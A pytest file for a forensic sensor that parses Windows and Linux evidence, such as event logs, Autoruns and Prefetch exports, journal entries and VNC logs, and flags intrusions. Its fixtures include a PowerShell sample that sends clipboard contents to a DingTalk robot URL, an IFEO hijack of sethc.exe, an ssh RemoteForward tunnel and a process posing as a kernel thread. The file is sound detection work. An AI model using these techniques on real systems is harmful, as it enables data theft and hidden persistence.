"""Tables of shells and forensic tools, events as tables, the journal and screen logs are recognised by content."""

import io
import json
from pathlib import Path

import pytest

from waybillguard.sensor import examine
from waybillguard.sensor.case import Case
from waybillguard.sensor.evidence import (
    commands,
    event_tables,
    exports,
    journal,
    lists,
    reader,
    screen_logs,
    settings_files,
    tables,
)
from waybillguard.sensor.evidence.event_log import EventLog
from waybillguard.sensor.evidence.source import Member
from waybillguard.sensor.evidence.task import read_tasks
from waybillguard.sensor.evidence.text_forms import text_form
from waybillguard.sensor.examination import conclude
from waybillguard.sensor.observation import CUT_OFF
from waybillguard.sensor.paths import runs_odd_script, started_files
from waybillguard.sensor.rules.hooks import posing_threads


def _lines(text: str) -> list[tuple[int, str]]:
    return list(enumerate(text.splitlines(), 1))


def test_commas_that_wmic_left_unquoted_belong_to_the_command_line() -> None:
    text = "\nNode,CommandLine,CreationDate,ExecutablePath,Name,ProcessId\nPC,q.exe -a 1,2,3,20261112081500.210195+480,C:\\q.exe,q.exe,104\n"
    assert text_form("p.csv", "p.csv", text) == "table"
    (seen,) = tables.read_csv(_lines(text), "f")
    assert (seen.command, seen.path, seen.session) == ("q.exe -a 1,2,3", "c:\\q.exe", "pid104")
    assert seen.time is not None
    assert seen.time.isoformat() == "2026-11-12T08:15:00+08:00"


def test_a_connection_of_powershell_and_of_velociraptor_says_who_talks_to_whom() -> None:
    text = '"LocalAddress","LocalPort","RemoteAddress","RemotePort","State","OwningProcess","ProcessName"\n"10.0.0.2","50000","203.0.113.9","8024","Established","41","q"\n'
    (one,) = tables.read_csv(_lines(text), "f")
    row = {
        "Pid": 41,
        "Name": "q",
        "Status": "ESTAB",
        "Laddr": {"IP": "10.0.0.2", "Port": 50000},
        "Raddr": {"IP": "203.0.113.9", "Port": 8024},
    }
    (two,) = tables.read_json([row], "f")
    for seen in (one, two):
        assert (seen.kind, seen.name, seen.origin, seen.port, seen.session) == (
            "connection",
            "q",
            "203.0.113.9",
            8024,
            "pid41",
        )


def test_records_a_line_are_whole_and_a_cut_line_is_not() -> None:
    assert tables.json_rows(b'{"a": 1}\n{"a": 2}\n') == ([{"a": 1}, {"a": 2}], True)
    assert tables.json_rows(b'{"a": 1}\n{"a": ') == ([{"a": 1}], False)
    assert tables.json_rows(b'[{"a": 1}, {"a"') == ([{"a": 1}], False)


def test_tools_of_examiners_are_known_by_their_columns() -> None:
    for text, kind, path in (
        ('SourceFilename,ExecutableName,RunCount,LastRun,FilesLoaded\nx,Q.EXE,3,2026-10-18 11:38:55,"\\VOLUME{1}\\TOOLS\\Q.EXE, \\VOLUME{1}\\A.DLL"\n', "program_run", "c:\\tools\\q.exe"),
        ("FullPath,Name,SHA1\nc:\\a\\q.exe,q.exe,00\n", "program_seen", "c:\\a\\q.exe"),
        ("ControlSet,CacheEntryPosition,Path\n1,0,C:\\a\\q.exe\n", "program_seen", "c:\\a\\q.exe"),
        ("SourceFile,LocalPath,Arguments\nC:\\Startup\\a.lnk,C:\\a\\q.exe,-x\n", "autorun", "c:\\a\\q.exe"),
        ("Timestamp,ExeInfo,BytesSent\n2026-10-18 11:38:55,\\device\\harddiskvolume3\\a\\q.exe,9\n", "program_run", "c:\\a\\q.exe"),
        ("Entry Location,Entry,Category,Image Path,Launch String\nHKLM\\Run,q,Logon,c:\\a\\q.exe,c:\\a\\q.exe -x\n", "autorun", "c:\\a\\q.exe"),
    ):  # fmt: skip
        assert text_form("t.csv", "t.csv", text) == "table", text
        (seen,) = tables.read_csv(_lines(text), "f")
        assert (seen.kind, seen.path) == (kind, path)


def test_a_value_of_the_registry_in_autoruns_is_judged_as_one() -> None:
    head = "Entry Location,Entry,Category,Image Path,Launch String\n"
    ifeo = (
        head
        + "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options,sethc.exe,Hijacks,c:\\a\\q.exe,c:\\a\\q.exe\n"
    )
    (seen,) = tables.read_csv(_lines(ifeo), "f")
    assert seen.name == "Debugger of sethc.exe"


def test_the_message_of_an_event_gives_its_fields_in_either_language() -> None:
    zh = "已成功登录帐户。\n\n使用者:\n\t帐户名称:\t\tPC$\n\n登录信息:\n\t登录类型:\t\t10\n\n新登录:\n\t帐户名称:\t\tadmin\n\t登录 ID:\t\t0x1F\n\n网络信息:\n\t源网络地址:\t203.0.113.7\n"
    en = "An account was successfully logged on.\n\nSubject:\n\tAccount Name:\t\tPC$\n\nLogon Information:\n\tLogon Type:\t\t10\n\nNew Logon:\n\tAccount Name:\t\tadmin\n\tLogon ID:\t\t0x1F\n\nNetwork Information:\n\tSource Network Address:\t203.0.113.7\n"
    for message in (zh, en):
        rows = [
            {
                "Id": 4624,
                "ProviderName": "Microsoft-Windows-Security-Auditing",
                "TimeCreated": "/Date(1793836814000)/",
                "Message": message,
            }
        ]
        data = json.dumps(rows).encode()
        assert text_form("s.json", "s.json", data.decode()) == "event_table"
        (seen,) = EventLog("f").read_events(event_tables.events_of_json(rows, "f"))
        assert (seen.kind, seen.account, seen.origin, seen.session) == (
            "session_start",
            "admin",
            "203.0.113.7",
            "0x1f",
        )


def test_events_of_a_csv_go_over_several_lines_and_name_the_program_of_a_service() -> None:
    text = '"TimeCreated","Id","ProviderName","Message"\n"2026/10/31 02:00:41","7045","Service Control Manager","服务已安装。\n\n服务名称:  q\n服务文件名:  C:\\a\\q.exe -k\n"\n'
    assert text_form("s.csv", "s.csv", text) == "event_table"
    (seen,) = EventLog("f").read_events(event_tables.events_of_csv(_lines(text), "f"))
    assert (seen.kind, seen.name, seen.path, str(seen.time)) == (
        "service_installed",
        "q",
        "c:\\a\\q.exe",
        "2026-10-31 02:00:41",
    )


def test_who_shadows_is_told_by_the_message_of_the_event() -> None:
    head = "TimeCreated,Id,ProviderName,Message\n"
    where = "Microsoft-Windows-TerminalServices-RemoteConnectionManager"
    rows = [
        f'2026/11/16 22:31:13,20506,{where},"Shadow Control Session Started\n\nUser P\\svc on computer LAP controlling user P\\pack (Session ID: 1)"',
        f'2026/11/16 22:40:13,20508,{where},"Shadow View Permission Granted\n\nUser P\\pack (Session ID: 1) granted permission to user P\\it"',
        f"2026/11/16 22:50:13,20507,{where},P\\svc 结束了对会话的控制",
    ]
    text = head + "\n".join(rows)
    told = EventLog("e.csv").read_events(event_tables.events_of_csv(_lines(text), "e.csv"))
    assert [(each.account, each.origin_name) for each in told] == [
        ("P\\svc", "LAP"),
        ("P\\it", ""),
        ("P\\svc", ""),
    ]


def test_an_event_as_velociraptor_writes_it_is_read() -> None:
    row = {
        "System": {
            "Provider": {"Name": "Service Control Manager"},
            "EventID": {"Value": 7045},
            "TimeCreated": {"SystemTime": 1794009748.25},
            "Security": {},
        },
        "EventData": {"ServiceName": "q", "ImagePath": "C:\\\\a\\\\q.exe"},
    }
    text = json.dumps(row)
    assert text_form("e.json", "e.json", text) == "event_lines"
    (seen,) = EventLog("f").read_lines([(1, text)])
    assert seen.name == "q"


def test_a_script_that_powershell_ran_is_told_by_each_of_its_lines() -> None:
    text = "$c=[Windows.Forms.Clipboard]::GetText()\nInvoke-RestMethod 'https://oapi.dingtalk.com/robot/send' `\n -Method Post -Body $c"
    row = {
        "System": {
            "Provider": {"Name": "Microsoft-Windows-PowerShell"},
            "EventID": 4104,
            "TimeCreated": {"SystemTime": "2026-11-07T00:11:02Z"},
        },
        "EventData": {"ScriptBlockText": text},
    }
    found, _ = conclude(EventLog("f").read_lines([(1, json.dumps(row))]))
    told = " ".join(each.detail_en for each in found.findings)
    assert all(each in told for each in ("clipboard", "chat robot", "copies files to oapi.dingtalk.com"))
    assert not [each for each in found.findings if each.severity == "high"]


def test_the_journal_is_read_from_json_and_from_its_export() -> None:
    said = "Accepted password for kylin from 203.0.113.8 port 5 ssh2"
    one = (
        json.dumps(
            {
                "__REALTIME_TIMESTAMP": "1794529888000000",
                "SYSLOG_IDENTIFIER": "sshd",
                "_PID": "9",
                "MESSAGE": said,
            }
        )
        + "\n"
    )
    two = f"__CURSOR=a\n__REALTIME_TIMESTAMP=1794529888000000\nSYSLOG_IDENTIFIER=sshd\n_PID=9\nMESSAGE={said}\n\n"
    for text in (one, two):
        assert text_form("j.json", "j.json", text) == "journal"
        (seen,) = journal.read_journal(_lines(text), "f")
        assert (seen.kind, seen.origin, seen.account) == ("session_start", "203.0.113.8", "kylin")


def test_what_cron_ran_stands_in_the_journal_too() -> None:
    line = "Nov 08 10:30:05 pc CRON[2010]: (li) CMD (/usr/bin/python3 /home/li/q.py >/dev/null)"
    (seen,) = journal.read_auth_log([(1, line)], "f", 2026)
    assert (seen.kind, started_files(seen.path, seen.command)) == ("task", ("/home/li/q.py",))


def test_each_vnc_server_says_who_came_in_its_own_words() -> None:
    for text in (
        "05/11/2026 22:40:43 x11vnc version: 0.9\n05/11/2026 22:40:43 Got connection from client 10.2.3.4\n05/11/2026 23:05:43 Client 10.2.3.4 gone\n",
        "Thu Nov  5 22:40:43 2026\n Connections: accepted: 10.2.3.4::50123\n\nThu Nov  5 23:05:43 2026\n Connections: closed: 10.2.3.4::50123 (Clean disconnection)\n",
        "<14> 2026-11-05 22:40:43 pc vncserver[1]: Connections: connected: 10.2.3.4::50123 (TCP)\n",
        "[ 2312/ 3104] 2026-11-05 22:40:43 + Incoming connection from 10.2.3.4\n",
        "14/10/2026 23:12   Connection received from 10.2.3.4 using a account\n",
    ):
        assert text_form("x.log", "x.log", text) == "vnc", text
        first, *rest = screen_logs.vnc(_lines(text), "f")
        assert (first.kind, first.origin) == ("session_start", "10.2.3.4")
        assert all((each.kind, each.origin) == ("session_end", "10.2.3.4") for each in rest)


def test_xrdp_and_sunshine_write_when_somebody_came() -> None:
    text = "[20261105-22:40:43] [INFO ] Socket 12: AF_INET6 connection received from ::ffff:10.2.3.4 port 51\n[20261105-22:40:45] [INFO ] ++ created session (access granted): username uos, ip ::ffff:10.2.3.4:51 - socket: 12\n"
    assert text_form("xrdp.log", "xrdp.log", text) == "xrdp"
    assert {(each.origin, each.kind) for each in screen_logs.xrdp(_lines(text), "f")} == {
        ("10.2.3.4", "session_start")
    }
    text = "[2026-10-12 22:20:02.118]: Info: CLIENT CONNECTED\n[2026-10-12 23:11:00.774]: Info: CLIENT DISCONNECTED\n"
    assert text_form("a.log", "a.log", text) == "sunshine"
    assert [each.kind for each in screen_logs.sunshine(_lines(text), "f")] == ["session_start", "session_end"]


def test_a_thread_of_the_kernel_has_neither_memory_nor_sockets() -> None:
    ps = "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 8 0 0 0 0 ? S 08:03 0:00 [kworker/0:1]\nroot 12 0 0 84 40 ? S 08:03 0:14 [kworker/u8:3]\n"
    seen = [
        *commands.read_ps(_lines(ps), "ps"),
        *lists.read_running_files([(1, "lrwxrwxrwx 1 r r 0 /proc/12/exe -> /usr/lib/.d/db (deleted)")], "exe"),
        *commands.read_sockets([(1, 'tcp ESTAB 0 0 10.0.0.2:4 203.0.113.9:443 users:(("kworker/u8:3-ev",pid=12,fd=1))')], "ss"),
    ]  # fmt: skip
    (found,) = posing_threads(Case(exports.name_processes(seen)))
    assert (found.severity, found.source, found.tool) == ("high", "203.0.113.9", "db")


def test_settings_tell_servers_outside_and_where_copies_go() -> None:
    text = "[main]\nServer=203.0.113.9\nlocal=10.0.0.2\n"
    assert [each.origin for each in settings_files.read_settings(text, "a/set.ini")] == ["203.0.113.9"]
    text = (
        '{"printer": "q", "mirrorUrl": "https://copy.example.com/in", "homepage": "https://www.example.com"}'
    )
    (seen,) = settings_files.read_settings(text, "a/set.json")
    assert (seen.origin, seen.marks) == ("copy.example.com", ("copies",))


def test_plain_lists_tell_names_programs_and_forwards() -> None:
    text = "\n    记录名称. . . . . . . : a.example.com\n"
    assert text_form("d.txt", "d.txt", text) == "dns_cache"
    assert [each.origin_name for each in lists.read_dns_cache(_lines(text), "f")] == ["a.example.com"]
    text = "Host q\n  HostName 203.0.113.9\n  RemoteForward 2222 localhost:22\n"
    assert text_form("config", "home/a/.ssh/config", text) == "ssh_settings"
    (seen,) = lists.read_ssh_settings(_lines(text), "f")
    assert (seen.origin, seen.command) == ("203.0.113.9", "ssh 203.0.113.9 RemoteForward 2222 localhost:22")
    text = "0|/usr/lib/cups/backend/q|1|-/rwxr-xr-x|0|0|9|1|1|1|1\n"
    assert text_form("b.txt", "b.txt", text) == "bodyfile"
    assert "print_filter" in [each.kind for each in lists.read_bodyfile(_lines(text), "f")]


def test_tasks_that_schtasks_prints_as_xml_are_each_read() -> None:
    task = '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>\\%s</URI></RegistrationInfo><Actions><Exec><Command>c:\\a\\%s.exe</Command></Exec></Actions></Task>'
    text = f'<?xml version="1.0" ?><Tasks><!-- \\a -->{task % ("a", "a")}{task % ("b", "b")}</Tasks>'
    assert [each.name for each in read_tasks(text, "f")] == ["\\a", "\\b"]


def test_windows_own_hidden_script_is_not_odd_but_one_elsewhere_is() -> None:
    own = "%windir%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Unrestricted -WindowStyle Hidden -File %windir%\\system32\\WindowsPowerShell\\v1.0\\Modules\\SmbShare\\a.ps1"
    assert not runs_odd_script(own)
    assert runs_odd_script(own.replace("%windir%\\system32\\WindowsPowerShell\\v1.0\\Modules", "d:\\q"))


def test_blanks_without_end_in_new_forms_cost_no_minutes() -> None:
    # With work quadratic in the length, this test would not end.
    blanks = " " * 60_000 + "x"
    assert event_tables.message_fields(f"a: {blanks}\n" + "\n" * 60_000 + "b: x")["b"] == "x"
    assert not list(settings_files.read_settings("}" + "\n" * 400_000 + "x", "a.json"))
    assert not list(lists.read_running_files([(1, "/proc/1/exe ->" + blanks)], "f"))
    assert not list(screen_logs.xrdp([(1, "[20261105-22:40:43] [INFO ] " + "created session " * 3_000)], "f"))


def test_signs_without_end_in_lists_cost_no_minutes() -> None:
    signs = 60_000
    assert not list(lists.read_linux_netstat([(1, "tcp 0 0 a:1 " + ":" * signs)], "f"))
    assert not list(exports.read_netstat(["TCP a:1 " + ":" * signs], "f"))
    assert not list(lists.read_units([(1, "●" * signs), (2, "*" * signs)], "f"))


def test_the_far_address_of_a_connection_over_ipv6_is_read_whole() -> None:
    (seen,) = exports.read_netstat(["TCP [2001:db8::2]:50000 [2001:db8::1]:443 ESTABLISHED 4"], "f")
    assert (seen.origin, seen.port) == ("2001:db8::1", 443)


def test_a_digit_that_is_no_number_ends_no_file() -> None:
    rows = [{"Id": "²", "ProviderName": "q"}, {"Id": "7", "ProviderName": "q"}]
    assert [each.number for each in event_tables.events_of_json(rows, "f")] == [7]
    (seen,) = tables.read_csv(_lines("ExecutableName,RunCount\nQ.EXE,²\n"), "f")
    assert seen.count == 1
    assert not list(journal.read_journal([(1, '{"__REALTIME_TIMESTAMP":"²","MESSAGE":"a"}')], "f"))
    ps = "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 8 0 0 0 ² ? S 08:03 0:00 [a]\n"
    assert not list(commands.read_ps(_lines(ps), "f"))
    xml = "<Events><Event><System><Provider Name='q'/><EventID>²</EventID></System></Event></Events>"
    log = EventLog("f")
    assert not list(log.read_xml(io.BytesIO(xml.encode())))
    assert not log.losses


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("services.csv", 'Name,PathName\na,c:\\a.exe\n"b\nc,c:\\c.exe\n'),
        ("long.csv", 'Name,PathName\na,c:\\a.exe\n"b\n' + "c,c:\\c.exe\n" * 20_000),
        ("events.csv", '"Id","ProviderName","Message"\n"7045","q","a\n"\n"7045","q","b\n'),
        ("events.json", '[{"Id": 7045, "ProviderName": "q", "Message": "a"}, {"Id": 70'),
        ("services.json", '[{"Name": "a", "PathName": "c:\\\\a.exe"}, {"Na'),
    ],
)
def test_a_table_that_is_cut_off_is_said(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    found, _ = examine([str(tmp_path)])
    assert [loss.reason for loss in found.losses] == [CUT_OFF]
    assert found.read[0].sha256


def test_of_a_json_that_is_too_large_the_first_part_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reader, "_SMALL", 60)
    path = tmp_path / "p.json"
    path.write_text(json.dumps([{"PathName": f"c:\\a{number}.exe", "Name": "a"} for number in range(9)]))
    read = reader.FileReader(Member(name="p.json", size=path.stat().st_size, open=lambda: path.open("rb")))
    list(read)
    assert read.told.read.records == 1
    assert [loss.reason for loss in read.told.losses] == [CUT_OFF]
